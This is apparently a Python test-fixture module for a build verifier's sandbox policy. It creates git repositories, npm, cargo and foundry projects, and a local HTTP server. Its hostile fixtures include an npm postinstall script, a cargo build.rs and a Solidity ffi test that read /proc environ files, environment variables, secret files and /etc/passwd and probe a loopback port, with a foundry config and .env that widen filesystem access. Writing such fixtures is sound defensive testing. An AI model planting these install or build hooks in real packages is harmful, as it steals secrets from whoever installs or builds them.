"""Real components for the verifier policy tests: git repositories built with ``git`` in a temp
directory (served over ``file://`` and over git's "dumb" HTTP protocol by a local aiohttp
server), tiny npm and cargo projects with a passing and a failing commit, hostile npm, cargo and
forge projects that try to read the service's secrets and reach its loopback services, and a
local HTTP server with images, a mislabelled page, an oversized image, a flaky endpoint and
redirects."""

from __future__ import annotations

import json
import os
import socket
import subprocess
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from aiohttp import web

from marketplace.config import Settings
from marketplace.verifier.policy import PolicyContext, PolicySettings

# Fixed identity and dates: the same files give the same commit hashes on every run.
GIT_ENV = {
    "GIT_AUTHOR_NAME": "Fixture",
    "GIT_AUTHOR_EMAIL": "fixture@example.invalid",
    "GIT_COMMITTER_NAME": "Fixture",
    "GIT_COMMITTER_EMAIL": "fixture@example.invalid",
    "GIT_AUTHOR_DATE": "2026-01-01T00:00:00Z",
    "GIT_COMMITTER_DATE": "2026-01-01T00:00:00Z",
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_CONFIG_GLOBAL": "/dev/null",
}

# 1x1 transparent PNG.
PNG_1X1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def git(*args: str, cwd: Path) -> str:
    env = {**os.environ, **GIT_ENV}
    return subprocess.run(
        ["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True
    ).stdout.strip()


@dataclass
class GitRepo:
    """A bare repository at ``<root>/<owner>/<name>.git`` and a working clone to commit from."""

    root: Path
    owner: str
    name: str
    commits: dict[str, str] = field(default_factory=dict)

    @property
    def bare(self) -> Path:
        return self.root / self.owner / f"{self.name}.git"

    @property
    def work(self) -> Path:
        return self.root / "_work" / self.owner / self.name

    @property
    def slug(self) -> str:
        return f"{self.owner}/{self.name}"

    def init(self) -> GitRepo:
        self.bare.mkdir(parents=True)
        git("init", "-q", "--bare", "-b", "main", str(self.bare), cwd=self.root)
        self.work.mkdir(parents=True)
        git("init", "-q", "-b", "main", cwd=self.work)
        return self

    def commit(self, label: str, files: dict[str, str], *, branch: str = "main") -> str:
        """Commit ``files`` (replacing the tree's files of those names) on ``branch``, push it,
        and remember the commit as ``label``."""
        git("checkout", "-q", "-B", branch, cwd=self.work)
        for path, content in files.items():
            target = self.work / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(content)
        git("add", "-A", cwd=self.work)
        git("commit", "-q", "--allow-empty", "-m", label, cwd=self.work)
        sha = git("rev-parse", "HEAD", cwd=self.work)
        git("push", "-q", "-f", str(self.bare), f"HEAD:refs/heads/{branch}", cwd=self.work)
        self.commits[label] = sha
        return sha

    def tag(self, name: str, sha: str, *, annotated: bool = False) -> None:
        extra = ["-a", "-m", name] if annotated else []
        git("tag", *extra, name, sha, cwd=self.work)
        git("push", "-q", str(self.bare), f"refs/tags/{name}", cwd=self.work)
        # The "dumb" HTTP protocol reads info/refs, which only this command writes.
        git("update-server-info", cwd=self.bare)

    def serve_info(self) -> None:
        git("update-server-info", cwd=self.bare)


PACKAGE_LOCK = {
    "name": "fixture",
    "version": "1.0.0",
    "lockfileVersion": 3,
    "requires": True,
    "packages": {"": {"name": "fixture", "version": "1.0.0"}},
}


def npm_files(test_js: str) -> dict[str, str]:
    package = {
        "name": "fixture",
        "version": "1.0.0",
        "private": True,
        "scripts": {"test": "node test.js"},
    }
    return {
        "package.json": json.dumps(package, indent=2) + "\n",
        "package-lock.json": json.dumps(PACKAGE_LOCK, indent=2) + "\n",
        "test.js": test_js,
    }


def npm_repo(root: Path) -> GitRepo:
    """Commits ``pass`` (tags ``v-pass`` and the annotated ``v-annotated``), ``fail`` (tag
    ``v-fail``, head of ``main``), ``hang`` (sleeps for a minute, branch ``hang``) and ``flood``
    (writes 300 kB, then passes; branch ``flood``)."""
    repo = GitRepo(root, "acme", "npm-fixture").init()
    passing = repo.commit("pass", npm_files("console.log('ok');\n"))
    repo.tag("v-pass", passing)
    repo.tag("v-annotated", passing, annotated=True)
    repo.tag(
        "v-fail",
        repo.commit("fail", npm_files("console.error('1 failing');\nprocess.exit(1);\n")),
    )
    repo.commit("hang", npm_files("setTimeout(() => {}, 60000);\n"), branch="hang")
    repo.commit(
        "flood",
        npm_files("process.stdout.write('x'.repeat(300000));\nconsole.log('done');\n"),
        branch="flood",
    )
    repo.serve_info()
    return repo


CARGO_TOML = """[package]
name = "fixture"
version = "0.1.0"
edition = "2021"

[dependencies]
"""


def cargo_repo(root: Path) -> GitRepo:
    """Commits ``pass`` (tag ``v-pass``) and ``fail`` (tag ``v-fail``), no dependencies."""
    repo = GitRepo(root, "acme", "cargo-fixture").init()
    lib = (
        "pub fn add(a: u32, b: u32) -> u32 {{ a + b }}\n\n"
        "#[test]\nfn adds() {{ assert_eq!(add(2, 2), {}); }}\n"
    )
    repo.tag("v-pass", repo.commit("pass", {"Cargo.toml": CARGO_TOML, "src/lib.rs": lib.format(4)}))
    repo.tag("v-fail", repo.commit("fail", {"src/lib.rs": lib.format(5)}))
    repo.serve_info()
    return repo


FOUNDRY_TOML = """[profile.default]
src = "src"
test = "test"
"""
COUNTER_SOL = """// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Counter {
    uint256 public count;

    function increment() external {
        count += 1;
    }
}
"""
COUNTER_TEST_SOL = """// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {{Counter}} from "../src/Counter.sol";

contract CounterTest {{
    function test_increment() public {{
        Counter counter = new Counter();
        counter.increment();
        require(counter.count() == {}, "count");
    }}
}}
"""


def forge_repo(root: Path) -> GitRepo:
    """A foundry project without libraries (no forge-std): commits ``pass`` (tag ``v-pass``)
    and ``fail`` (tag ``v-fail``)."""
    repo = GitRepo(root, "acme", "forge-fixture").init()
    files = {
        "foundry.toml": FOUNDRY_TOML,
        "src/Counter.sol": COUNTER_SOL,
        "test/Counter.t.sol": COUNTER_TEST_SOL.format(1),
    }
    repo.tag("v-pass", repo.commit("pass", files))
    repo.tag("v-fail", repo.commit("fail", {"test/Counter.t.sol": COUNTER_TEST_SOL.format(2)}))
    repo.serve_info()
    return repo


@dataclass
class Bait:
    """What a hostile repository tries to reach: an environment variable of the test process, a
    secret file outside the work dir, a loopback port. ``marker`` tags its processes' argv."""

    env_name: str
    env_value: str
    # path -> its secret content
    files: dict[str, str]
    port: int
    test_pid: int
    marker: str

    @property
    def secrets(self) -> list[str]:
        return [self.env_value, *self.files.values()]

    def js(self) -> str:
        return json.dumps(
            {
                "envName": self.env_name,
                "files": sorted(self.files),
                "port": self.port,
                "testPid": self.test_pid,
                "marker": self.marker,
            }
        )


# Runs at `npm ci` (postinstall) and `npm test`: reads what it can, tries the port, prints it all
# (what a real attacker would do through the logs), and exits 0.
HOSTILE_JS = """const fs = require("fs");
const net = require("net");
const bait = BAIT;
const stage = process.argv[2] || "?";
function read(p) {
  try { return fs.readFileSync(p).toString("utf8").split("\\0").join("\\n"); }
  catch (e) { return "ERR " + e.code; }
}
function list(p) {
  try { return fs.readdirSync(p); } catch (e) { return "ERR " + e.code; }
}
function write(p) {
  try { fs.writeFileSync(p, "x"); return "WROTE"; } catch (e) { return "ERR " + e.code; }
}
const seen = { stage, pid: process.pid, ppid: process.ppid, uid: process.getuid() };
seen.initEnviron = read("/proc/1/environ");
seen.parentEnviron = read(`/proc/${process.ppid}/environ`);
seen.testProcessEnviron = read(`/proc/${bait.testPid}/environ`);
seen.procs = {};
for (const d of fs.readdirSync("/proc")) {
  if (/^\\d+$/.test(d)) {
    seen.procs[d] = { environ: read(`/proc/${d}/environ`), cmdline: read(`/proc/${d}/cmdline`) };
  }
}
seen.env = process.env;
seen.secretEnv = process.env[bait.envName] || null;
seen.files = {};
for (const f of bait.files) seen.files[f] = read(f);
seen.dirs = {};
for (const d of ["/", "/root", "/home", "/work", "/tmp", "/etc", "/proc/self/root"]) {
  seen.dirs[d] = list(d);
}
seen.writes = { usr: write("/usr/hostile"), etc: write("/etc/hostile") };
const socket = net.connect({ host: "127.0.0.1", port: bait.port });
const done = (what) => {
  seen.connect = what;
  console.log("HOSTILE-RAN " + JSON.stringify(seen));
  process.exit(0);
};
socket.on("connect", () => { socket.destroy(); done("CONNECTED"); });
socket.on("error", (e) => done("ERR " + e.code));
setTimeout(() => done("ERR timeout"), 3000);
"""


def hostile_npm_files(bait: Bait) -> dict[str, str]:
    package = {
        "name": "hostile",
        "version": "1.0.0",
        "private": True,
        "scripts": {"postinstall": "node hostile.js ci", "test": "node hostile.js test"},
    }
    lock = {**PACKAGE_LOCK, "name": "hostile"}
    lock["packages"] = {"": {"name": "hostile", "version": "1.0.0", "hasInstallScript": True}}
    return {
        "package.json": json.dumps(package, indent=2) + "\n",
        "package-lock.json": json.dumps(lock, indent=2) + "\n",
        "hostile.js": HOSTILE_JS.replace("BAIT", bait.js()),
    }


def hanging_npm_files(marker: str) -> dict[str, str]:
    """``npm test`` starts a child in a session of its own (out of its process group), then
    waits forever; both carry ``marker`` in their argv."""
    script = (
        'const { spawn } = require("child_process");\n'
        f'spawn("sh", ["-c", "sleep 1000; : {marker}"], {{ detached: true, stdio: "ignore" }})'
        ".unref();\n"
        'console.log("HANGING");\n'
        "setInterval(() => {}, 1000);\n"
    )
    files = npm_files(script)
    package = json.loads(files["package.json"])
    package["scripts"]["test"] = f"node test.js {marker}"
    files["package.json"] = json.dumps(package, indent=2) + "\n"
    return files


HOSTILE_BUILD_RS = """use std::io::Write;
use std::time::Duration;

fn read(path: &str) -> String {
    match std::fs::read(path) {
        Ok(bytes) => String::from_utf8_lossy(&bytes).replace(['\\0', '\\n'], " | "),
        Err(e) => format!("ERR {e}"),
    }
}

fn say(line: String) {
    println!("cargo:warning={}", line.replace('\\n', " | "));
    std::io::stdout().flush().unwrap();
}

fn main() {
    let ppid = std::os::unix::process::parent_id();
    say(format!("HOSTILE-BUILD-RAN pid={} ppid={ppid}", std::process::id()));
    say(format!("init environ: {}", read("/proc/1/environ")));
    say(format!("parent environ: {}", read(&format!("/proc/{ppid}/environ"))));
    say(format!("test process environ: {}", read("/proc/TEST_PID/environ")));
    if let Ok(entries) = std::fs::read_dir("/proc") {
        for entry in entries.flatten() {
            let name = entry.file_name().to_string_lossy().to_string();
            if name.chars().all(|c| c.is_ascii_digit()) {
                say(format!("/proc/{name}/environ: {}", read(&format!("/proc/{name}/environ"))));
            }
        }
    }
    for (key, value) in std::env::vars_os() {
        say(format!("env {}={}", key.to_string_lossy(), value.to_string_lossy()));
    }
    say(format!("secret env: {:?}", std::env::var_os("ENV_NAME")));
    for file in FILES {
        say(format!("file {file}: {}", read(file)));
    }
    for dir in ["/", "/root", "/home", "/work", "/tmp"] {
        let names: Vec<String> = match std::fs::read_dir(dir) {
            Ok(entries) => entries
                .flatten()
                .map(|e| e.file_name().to_string_lossy().to_string())
                .collect(),
            Err(e) => vec![format!("ERR {e}")],
        };
        say(format!("dir {dir}: {names:?}"));
    }
    let address = "127.0.0.1:PORT".parse().unwrap();
    match std::net::TcpStream::connect_timeout(&address, Duration::from_secs(3)) {
        Ok(_) => say("connect: CONNECTED".to_string()),
        Err(e) => say(format!("connect: ERR {e}")),
    }
}
"""


def hostile_cargo_files(bait: Bait) -> dict[str, str]:
    files = ", ".join(json.dumps(f) for f in sorted(bait.files))
    build = (
        HOSTILE_BUILD_RS.replace("TEST_PID", str(bait.test_pid))
        .replace("ENV_NAME", bait.env_name)
        .replace("FILES", f"[{files}]")
        .replace("PORT", str(bait.port))
    )
    manifest = CARGO_TOML.replace('name = "fixture"', 'name = "hostile"').replace(
        'edition = "2021"', 'edition = "2021"\nbuild = "build.rs"'
    )
    return {
        "Cargo.toml": manifest,
        "build.rs": build,
        "src/lib.rs": "#[test]\nfn runs() { assert_eq!(1 + 1, 2); }\n",
    }


# ffi on and the whole filesystem readable, as far as the repository can say so: in the file's
# default profile, in a profile its .env selects, in kebab-case, and through FOUNDRY_CONFIG.
HOSTILE_FOUNDRY_TOML = """[profile.default]
src = "src"
test = "test"
ffi = true
fs_permissions = [{ access = "read", path = "/" }]
allow_paths = ["/"]

[profile.evil]
src = "src"
test = "test"
ffi = true
fs-permissions = [{ access = "read-write", path = "/" }]
"""
HOSTILE_SOL = """// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Vm {
    function ffi(string[] calldata) external returns (bytes memory);
    function readFile(string calldata) external view returns (string memory);
    function envOr(string calldata, string calldata) external view returns (string memory);
    function createSelectFork(string calldata) external returns (uint256);
}

contract HostileTest {
    Vm constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    function test_marker() public pure {
        revert("HOSTILE-FORGE-RAN");
    }

    function test_ffi() public {
        string[] memory cmd = new string[](3);
        cmd[0] = "sh";
        cmd[1] = "-c";
        cmd[2] = "cat /proc/1/environ /proc/*/environ FILES; env";
        revert(string(abi.encodePacked("FFI-OUTPUT ", vm.ffi(cmd))));
    }
READS
    function test_env() public view {
        revert(string(abi.encodePacked("ENV ", vm.envOr("ENV_NAME", string("absent")))));
    }

    function test_fork() public {
        vm.createSelectFork("http://127.0.0.1:PORT");
        revert("FORKED");
    }
}
"""
_READ_TEST = """
    function test_read_NAME() public view {
        revert(string(abi.encodePacked("READ ", vm.readFile("PATH"))));
    }
"""


def hostile_forge_files(bait: Bait) -> dict[str, str]:
    paths = ["/proc/1/environ", "/etc/passwd", *sorted(bait.files)]
    reads = "".join(
        _READ_TEST.replace("NAME", str(i)).replace("PATH", path) for i, path in enumerate(paths)
    )
    test = (
        HOSTILE_SOL.replace("READS", reads)
        .replace("FILES", " ".join(sorted(bait.files)))
        .replace("ENV_NAME", bait.env_name)
        .replace("PORT", str(bait.port))
    )
    return {
        "foundry.toml": HOSTILE_FOUNDRY_TOML,
        # forge loads .env; what is already set (FOUNDRY_CONFIG) is not overridden.
        ".env": "FOUNDRY_CONFIG=foundry.toml\nFOUNDRY_PROFILE=evil\n",
        "src/Counter.sol": COUNTER_SOL,
        "test/Hostile.t.sol": test,
    }


def hostile_repo(root: Path, name: str, files: dict[str, str]) -> GitRepo:
    """A repository ``acme/<name>`` whose one commit (tag ``v-hostile``) holds ``files``."""
    repo = GitRepo(root, "acme", name).init()
    repo.tag("v-hostile", repo.commit("hostile", files))
    repo.serve_info()
    return repo


class LoopbackListener:
    """A TCP port on 127.0.0.1 that counts the connections made to it (none may be)."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.setblocking(False)
        self.port = int(self.sock.getsockname()[1])
        self._accepted = 0

    def accepted(self) -> int:
        while True:
            try:
                conn, _ = self.sock.accept()
            except BlockingIOError:
                return self._accepted
            conn.close()
            self._accepted += 1

    def close(self) -> None:
        self.sock.close()


def processes_with(marker: str) -> list[int]:
    """The pids whose argv holds ``marker`` (zombies have none), this process excepted."""
    needle = marker.encode()
    found: list[int] = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                if needle in handle.read():
                    found.append(int(entry))
        except OSError:
            continue
    return found


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@dataclass
class WebFixture:
    """A running local HTTP server; ``url(path)`` is its address for ``path``."""

    base: str
    runner: web.AppRunner
    hits: dict[str, int]

    def url(self, path: str) -> str:
        return f"{self.base}{path}"

    @property
    def authority(self) -> str:
        return self.base.removeprefix("http://")


def web_app(git_root: Path | None, big_bytes: int) -> tuple[web.Application, dict[str, int]]:
    hits: dict[str, int] = {}

    @web.middleware
    async def count_hits(request: web.Request, handler: Any) -> web.StreamResponse:
        hits[request.path] = hits.get(request.path, 0) + 1
        response: web.StreamResponse = await handler(request)
        return response

    async def png(request: web.Request) -> web.Response:
        return web.Response(body=PNG_1X1, content_type="image/png")

    async def fake_png(request: web.Request) -> web.Response:
        return web.Response(
            body=b"<html><body>not an image</body></html>", content_type="image/png"
        )

    async def html(request: web.Request) -> web.Response:
        return web.Response(text="<html></html>", content_type="text/html")

    async def big(request: web.Request) -> web.StreamResponse:
        # Streamed without a Content-Length: the policy must stop reading by itself.
        response = web.StreamResponse(headers={"Content-Type": "image/png"})
        response.enable_chunked_encoding()
        await response.prepare(request)
        await response.write(PNG_1X1[:8])
        chunk = b"\0" * 65_536
        sent = 8
        while sent <= big_bytes:
            await response.write(chunk)
            sent += len(chunk)
        await response.write_eof()
        return response

    async def flaky(request: web.Request) -> web.Response:
        if hits[request.path] == 1:
            return web.Response(status=500, text="try again")
        return web.Response(body=PNG_1X1, content_type="image/png")

    async def figma(request: web.Request) -> web.Response:
        if request.match_info["key"] == "missing":
            return web.Response(status=404, text="not found")
        if request.match_info["key"] == "flaky" and hits[request.path] == 1:
            return web.Response(status=503, text="busy")
        return web.Response(text="<html>figma</html>", content_type="text/html")

    async def redirect(request: web.Request) -> web.Response:
        raise web.HTTPFound(request.query["to"])

    async def loop(request: web.Request) -> web.Response:
        raise web.HTTPFound("/loop")

    app = web.Application(middlewares=[count_hits])
    app.router.add_get("/img/ok.png", png)
    app.router.add_get("/img/fake.png", fake_png)
    app.router.add_get("/img/page.html", html)
    app.router.add_get("/img/big.png", big)
    app.router.add_get("/img/flaky.png", flaky)
    app.router.add_get("/ipfs/{cid}/shot.png", png)
    app.router.add_get("/{kind:file|design|proto}/{key}/{rest:.*}", figma)
    app.router.add_get("/redirect", redirect)
    app.router.add_get("/loop", loop)
    if git_root is not None:
        # Git's "dumb" HTTP protocol: the bare repositories as static files.
        app.router.add_static("/git/", git_root)
    return app, hits


@asynccontextmanager
async def web_fixture(
    *, git_root: Path | None = None, big_bytes: int = 300_000, port: int = 0
) -> AsyncIterator[WebFixture]:
    app, hits = web_app(git_root, big_bytes)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    port = port or free_port()
    site = web.TCPSite(runner, "127.0.0.1", port)
    await site.start()
    try:
        yield WebFixture(base=f"http://127.0.0.1:{port}", runner=runner, hits=hits)
    finally:
        await runner.cleanup()


def local_settings(**overrides: Any) -> Settings:
    """Settings for local fixtures: private hosts allowed (they are all on 127.0.0.1)."""
    values: dict[str, Any] = {
        "verifier_allow_private_hosts": True,
        "verifier_http_timeout_seconds": 10.0,
        "verifier_command_timeout_seconds": 120.0,
        "verifier_command_cpu_seconds": 120,
        "verifier_command_memory_mb": 2048,
    }
    values.update(overrides)
    return Settings(**values)


def context(tmp_path: Path, settings: Settings, rpc_url: str = "") -> PolicyContext:
    return PolicyContext(
        settings=PolicySettings.from_settings(settings), rpc_url=rpc_url, work_dir=tmp_path / "work"
    )
